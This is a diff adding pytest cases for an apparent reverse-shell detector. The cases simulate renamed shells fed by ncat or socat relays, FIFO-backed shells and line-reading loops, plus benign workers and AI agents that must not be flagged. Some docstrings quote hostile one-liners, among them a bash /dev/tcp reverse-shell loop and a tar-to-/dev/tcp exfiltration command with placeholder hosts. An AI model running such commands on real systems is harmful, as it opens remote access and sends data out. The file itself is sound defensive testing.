@@ -221,3 +221,135 @@ def test_a_flow_that_ended_feeds_no_more() -> None:
     commands(scene, later, SHELL, 4)
     assert len(scene.of("reverse_shell")) > before
     assert scene.of("reverse_shell")[-1].Cookies == f"{later:x}"
+
+
+# Shells by what they do.
+
+
+def typed(
+    scene: Scene,
+    flow: int,
+    parent: int,
+    count: int,
+    *,
+    came: int = 12,
+    streams: tuple[str, int, int] = ("pipe", 41, 42),
+) -> None:
+    """A program of `parent` for each time that data comes in, with `parent`'s own streams unless told."""
+    kind, stdin, stdout = streams
+    for number in range(count):
+        scene.wait(3)
+        scene.push(flow, came)
+        scene.at += 20 * MS
+        scene.process(900 + number, "/usr/bin/expr", parent, stdin=(kind, stdin), stdout=(kind, stdout))
+
+
+RENAMED = "/tmp/updated"
+
+
+@pytest.mark.parametrize("tls", [False, True])
+@pytest.mark.parametrize("later", [False, True], ids=["connects-before", "connects-after"])
+def test_a_shell_under_another_name_that_a_relay_feeds(tls: bool, later: bool) -> None:
+    """`ncat -e` has the connection before it starts the shell, socat after."""
+    scene = Scene()
+    flow = 0 if later else scene.connect(700, OUTSIDE, 4444)
+    scene.process(SHELL, RENAMED, 700, stdin=("pipe", 41), stdout=("pipe", 42))
+    flow = flow or scene.connect(700, OUTSIDE, 4444)
+    if tls:
+        scene.recognise(flow, "tls")
+    typed(scene, flow, SHELL, 2)
+    assert scene.score("reverse_shell") < 60
+    typed(scene, flow, SHELL, 2)
+    assert scene.score("reverse_shell") >= 60
+    event = scene.of("reverse_shell")[-1]
+    assert (event.Image, event.Inner, event.HolderProcessIds) == (RENAMED, "pipe", "700")
+
+
+def test_a_shell_under_another_name_behind_a_fifo() -> None:
+    """Who feeds it is looked for only once it starts programs after data came in."""
+    scene = Scene()
+    scene.world.pipes = {41: (720, SHELL), 42: (SHELL, 730)}
+    scene.process(SHELL, RENAMED, 700, stdin=("pipe", 41), stdout=("pipe", 42))
+    flow = scene.connect(730, OUTSIDE, 4444)
+    scene.wait(3)
+    assert scene.world.scans == 0
+    typed(scene, flow, SHELL, 4)
+    assert scene.world.scans <= 4
+    assert scene.score("reverse_shell") >= 60
+
+
+def test_a_prompt_that_goes_out_has_its_shell_looked_for() -> None:
+    scene = Scene()
+    scene.world.pipes = {41: (720, SHELL), 42: (SHELL, 730)}
+    scene.process(SHELL, RENAMED, 700, stdin=("pipe", 41), stdout=("pipe", 42))
+    flow = scene.connect(730, OUTSIDE, 4444)
+    scene.recognise(flow, "shell", MessageKind="prompt")
+    scene.wait(1)
+    assert scene.score("reverse_shell") >= 50
+    typed(scene, flow, SHELL, 1)
+    assert scene.score("reverse_shell") >= 60
+
+
+def test_a_shell_that_reads_lines_and_answers_on_the_flow() -> None:
+    """`exec 5<>/dev/tcp/HOST/PORT; cat <&5 | while read line; do $line >&5 2>&5; done`."""
+    scene = Scene()
+    flow = scene.connect(700, OUTSIDE, 4444, image="/bin/bash")
+    for number in range(4):
+        scene.wait(3)
+        scene.push(flow, 12)
+        scene.at += 20 * MS
+        scene.process(800 + number, "/usr/bin/id", 701, stdin=("pipe", 41), stdout=("socket", scene.inode(flow)))
+    assert scene.score("reverse_shell") >= 60
+    event = scene.of("reverse_shell")[-1]
+    assert (event.ProcessId, event.Image, event.Inner) == (700, "/bin/bash", "socket")
+
+
+def test_output_to_a_flow_on_which_nothing_comes_is_no_answer() -> None:
+    """`tar c . >/dev/tcp/HOST/PORT`, again and again, or HTTP by hand."""
+    scene = Scene()
+    out = scene.connect(700, OUTSIDE, 9000, image="/bin/bash")
+    web = scene.connect(700, OUTSIDE, 80, image="/bin/bash")
+    scene.recognise(web, "http", Method="GET")
+    for number in range(20):
+        scene.wait(3)
+        scene.push(web, 800)
+        for flow in (out, web):
+            scene.process(800 + number, "/usr/bin/tar", 700, stdin=("pipe", 41), stdout=("socket", scene.inode(flow)))
+    assert scene.score("reverse_shell") < 50
+
+
+def test_a_line_is_no_models_reply() -> None:
+    """Over TLS that names no HTTP, what tells an agent from a terminal is how much comes before a program starts."""
+    scores = {}
+    for came in (30, 2500):
+        scene = Scene()
+        flow = scene.connect(500, OUTSIDE, 443)
+        scene.recognise(flow, "tls")
+        scene.process(SHELL, "/bin/bash", 500, stdin=("pipe", 41), stdout=("pipe", 42))
+        typed(scene, flow, SHELL, 20, came=came)
+        scores[came] = scene.score("reverse_shell")
+    assert scores[30] >= 60 > scores[2500] >= 40
+
+
+@pytest.mark.parametrize("case", ["captured", "http", "private"])
+def test_workers_that_start_programs_are_no_shells(case: str) -> None:
+    """What they run has its output taken by them; or they are an agent's; or their queue is a neighbour's."""
+    scene = Scene()
+    flow = scene.connect(700, NEIGHBOUR if case == "private" else OUTSIDE, 6379)
+    if case == "http":
+        scene.recognise(flow, "tls", Alpn="h2")
+    scene.process(SHELL, "/usr/bin/python3", 700, stdin=("pipe", 41), stdout=("pipe", 42))
+    typed(scene, flow, SHELL, 30, streams=("pipe", 41, 77 if case == "captured" else 42))
+    assert scene.score("reverse_shell") < 60
+
+
+def test_pipelines_without_end_are_bounded_and_never_looked_for() -> None:
+    scene = Scene()
+    flow = scene.connect(600, OUTSIDE, 443)
+    scene.recognise(flow, "tls", Alpn="h2")
+    for number in range(1000):
+        scene.process(1000 + number, "/usr/bin/sort", 999, stdin=("pipe", number), stdout=("pipe", number + 1))
+        scene.at += 5 * MS
+    scene.wait(3)
+    assert scene.world.scans == 0
+    assert scene.of("reverse_shell") == []
